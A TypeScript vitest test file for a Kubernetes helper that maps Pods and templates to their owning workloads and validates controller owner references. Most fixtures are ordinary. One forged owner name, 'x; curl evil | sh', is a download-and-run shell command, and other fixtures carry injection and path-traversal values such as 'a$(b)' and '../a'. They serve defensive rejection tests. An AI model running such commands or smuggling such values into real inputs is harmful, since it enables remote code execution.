import { describe, expect, it } from 'vitest'
import type { JsonObject } from '../../json/json.ts'
import { controllerIn, controllerOf, workloadOfPod, workloadOfTemplate } from './workload.ts'

const owned = (kind: string, name: string) => [{ apiVersion: 'v1', kind, name, uid: 'u', controller: true }]

describe('the workload of a Pod', () => {
  it.each<{ why: string; metadata: JsonObject; workload: string }>([
    {
      why: 'is the Deployment of its ReplicaSet',
      metadata: {
        generateName: 'web-5f4cf-',
        labels: { 'pod-template-hash': '5f4cf' },
        ownerReferences: owned('ReplicaSet', 'web-5f4cf'),
      },
      workload: 'Deployment/web',
    },
    {
      why: 'is the Rollout of Argo of its ReplicaSet',
      metadata: {
        labels: { 'rollouts-pod-template-hash': '5f4cf' },
        ownerReferences: owned('ReplicaSet', 'web-5f4cf'),
      },
      workload: 'Rollout/web',
    },
    {
      why: 'is a ReplicaSet that somebody else made',
      metadata: { ownerReferences: owned('ReplicaSet', 'web-5f4cf') },
      workload: 'ReplicaSet/web-5f4cf',
    },
    {
      why: 'is the CronJob of its Job',
      metadata: { ownerReferences: owned('Job', 'backup-29112340') },
      workload: 'CronJob/backup',
    },
    {
      why: 'is a Job by itself',
      metadata: { ownerReferences: owned('Job', 'migrate-42') },
      workload: 'Job/migrate-42',
    },
    {
      why: 'is its StatefulSet',
      metadata: { name: 'db-0', ownerReferences: owned('StatefulSet', 'db') },
      workload: 'StatefulSet/db',
    },
    {
      why: 'is its StatefulSet, whatever its name ends with',
      metadata: {
        labels: { 'pod-template-hash': '5f4cf' },
        ownerReferences: owned('StatefulSet', 'web-5f4cf'),
      },
      workload: 'StatefulSet/web-5f4cf',
    },
    {
      why: 'is its StatefulSet, though its name ends as that of a Job',
      metadata: { ownerReferences: owned('StatefulSet', 'backup-29112340') },
      workload: 'StatefulSet/backup-29112340',
    },
    { why: 'is the Pod itself', metadata: { name: 'alone' }, workload: 'Pod/alone' },
    {
      why: 'is the Pod itself if its owner does not control it',
      metadata: { name: 'alone', ownerReferences: [{ kind: 'Node', name: 'n', uid: 'u' }] },
      workload: 'Pod/alone',
    },
    {
      why: 'is the name that the API server completes',
      metadata: { generateName: 'run-' },
      workload: 'Pod/run-',
    },
    {
      why: 'is the same after the API server has completed the name',
      metadata: { generateName: 'run-', name: 'run-x7k2p' },
      workload: 'Pod/run-',
    },
    {
      why: 'is the Pod itself if the name of its owner is forged',
      metadata: { name: 'alone', ownerReferences: owned('ReplicaSet', 'x; curl evil | sh') },
      workload: 'Pod/alone',
    },
    { why: 'has no name without metadata', metadata: {}, workload: 'Pod/' },
  ])('$why: $workload', ({ metadata, workload }) => {
    const { kind, name } = workloadOfPod({ metadata })
    expect(`${kind}/${name}`).toBe(workload)
  })
})

describe('the controller of a Pod', () => {
  const controller = { kind: 'Job', name: 'a', uid: 'u' }

  it('is found among odd references', () => {
    const references = [null, 'x', { ...controller, name: 'b' }, { ...controller, controller: true }]
    expect(controllerIn(references)).toEqual(controller)
    expect(controllerIn('x')).toBeUndefined()
    expect(controllerIn([])).toBeUndefined()
  })

  it.each<{ own: JsonObject; isFine: boolean }>([
    { own: {}, isFine: true },
    { own: { name: 'a'.repeat(253) }, isFine: true },
    { own: { name: 'a'.repeat(254) }, isFine: false },
    { own: { uid: 'u'.repeat(254) }, isFine: false },
    { own: { uid: 1 }, isFine: false },
    { own: { name: 1 }, isFine: false },
    { own: { kind: null }, isFine: false },
    { own: { kind: 'Job/..' }, isFine: false },
    { own: { name: '../a' }, isFine: false },
    { own: { name: 'a$(b)' }, isFine: false },
  ])('may have $own: $isFine', ({ own, isFine }) => {
    const given = { ...controller, ...own }
    expect(controllerOf(given)).toEqual(isFine ? given : undefined)
  })
})

describe('the workload of a template', () => {
  it.each([
    ['Deployment', 'web', 'Deployment/web'],
    ['CronJob', 'backup', 'CronJob/backup'],
    ['Job', 'backup-29112340', 'CronJob/backup'],
    ['ReplicaSet', 'web-5f4cf', 'Deployment/web'],
  ])('of a %s %s is that of its Pods: %s', (kind, name, workload) => {
    const labels = { 'pod-template-hash': '5f4cf' }
    const found = workloadOfTemplate({ kind, metadata: { name } }, { metadata: { labels } })
    expect(`${found.kind}/${found.name}`).toBe(workload)
  })
})
